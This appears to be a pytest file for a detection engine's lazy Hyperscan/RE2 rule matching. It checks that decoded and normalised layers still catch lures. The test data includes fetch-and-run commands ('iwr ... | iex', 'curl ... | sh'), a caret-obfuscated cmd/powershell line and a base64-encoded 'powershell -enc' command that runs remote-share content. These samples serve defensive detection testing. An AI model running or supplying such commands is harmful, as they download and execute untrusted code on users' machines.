"""A short text's layers read lazily (rules.Reported): Hyperscan's reports of a layer, each
confirmed by RE2 only when a rule asks. A layer so read says of every pattern what hits would
have said (of the bytes it was given, too), the engine finds what it finds with every layer's
hits made whole, a lure that only a decoded or normalised layer shows is still caught there,
and a text just past the lazy reading's limits (TIMED_CHUNK bytes, beyond ASCII, no database
or not all the patterns in it) gets hits as before."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator

import pytest

from app.detection import Engine
from app.detection import rules as rules_module
from app.detection.rules import CompiledRules, Reported
from tests.app.detection import test_hsfilter
from tests.app.detection.test_hsfilter import case_texts

# the shipped rules, with the database and without it (test_hsfilter's fixtures)
rules, database, both = test_hsfilter.rules, test_hsfilter.database, test_hsfilter.both


def said(fast: CompiledRules, layer: Reported) -> frozenset[int]:
    """Every pattern the lazy reading says occurs, each asked about."""
    return frozenset(i for i in range(len(fast.patterns())) if fast.occurs(i, layer))


def test_a_layer_read_lazily_says_of_each_pattern_what_hits_says(
    both: tuple[CompiledRules, CompiledRules],
) -> None:
    fast, exact = both
    texts = [t for t in case_texts() if t.isascii()]
    rng = random.Random(15)
    joined = [" | ".join(rng.sample(texts, 3)) for _ in range(300)]
    checked = 0
    for text in [*texts[::4], *joined]:
        layer = fast.reported(text)
        if layer is None:
            continue
        checked += 1
        expected, finished = exact.hits(text)
        assert finished
        assert layer.reported >= expected, text[:200]  # a report for every pattern that occurs
        assert {i for i in layer.reported if fast.occurs(i, layer)} == expected, text[:200]
    assert checked > 2500


def test_only_what_hits_reads_as_its_reports_confirmed_is_read_lazily(
    both: tuple[CompiledRules, CompiledRules],
) -> None:
    fast, exact = both
    text = "iwr https://a.example.test/x | iex # "
    limit = rules_module.TIMED_CHUNK
    just_under = text + "x" * (limit - 1 - len(text))
    layer = fast.reported(just_under)
    assert layer is not None and said(fast, layer) == exact.hits(just_under)[0]
    assert fast.reported(just_under + "x") is None  # hits looks at the clock from there
    given = b"curl -s https://a.example.test/x | sh"  # the raw text's own bytes, when given
    layer = fast.reported(text, given)
    assert layer is not None and said(fast, layer) == exact.hits(text, None, given)[0]
    assert fast.reported(text + "é") is None  # beyond ASCII: not every pattern is in it
    assert exact.reported(text) is None  # no database
    with pytest.MonkeyPatch.context() as patch:  # a database without all the patterns
        patch.setattr(fast, "_hs_all", False)
        assert fast.reported(text) is None


@pytest.fixture(scope="module")
def engine(both: tuple[CompiledRules, CompiledRules]) -> Iterator[Engine]:
    engine = Engine(strict=True)
    engine.rules = both[0]
    yield engine


def reading(engine: Engine, text: str) -> list[tuple[str, str, str]]:
    verdict = engine.analyze(text)
    return [(str(verdict.level), f.rule_id, f.layer) for f in verdict.findings]


def test_the_engine_finds_what_it_finds_with_every_layer_read_whole(engine: Engine) -> None:
    texts = case_texts()[::6]
    lazy = [reading(engine, t) for t in texts]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(CompiledRules, "reported", lambda self, text, data=None: None)
        whole = [reading(engine, t) for t in texts]
    assert lazy == whole
    layered = sum(any(layer != "raw" for _, _, layer in found) for found in lazy)
    assert layered > 100  # findings on later layers were compared, not raw ones only


def encoded(command: str) -> str:
    return "powershell -enc " + base64.b64encode(command.encode("utf-16-le")).decode()


def test_a_lure_only_a_later_layer_shows_is_caught_there(engine: Engine) -> None:
    rules_of = {rule for _, rule, _ in reading(engine, "c^m^d /c p^o^w^e^r^s^h^e^l^l -c whoami")}
    assert "PG-WIN-HIDDEN-COMMAND-WORD" in rules_of  # a hidden rule, on the normalised layer
    share = encoded("cmd /c type \\\\files.example.test\\s\\p.txt | cmd")
    assert ("PG-WIN-SHARE-TEXT-RUN", "base64") in {
        (r, layer) for _, r, layer in reading(engine, share)
    }
    # the rule's `none` pattern is asked about on that layer: a company's own share is not it
    own = encoded("cmd /c type \\\\files.example.corp\\s\\p.txt | cmd")
    assert "PG-WIN-SHARE-TEXT-RUN" not in {r for _, r, _ in reading(engine, own)}
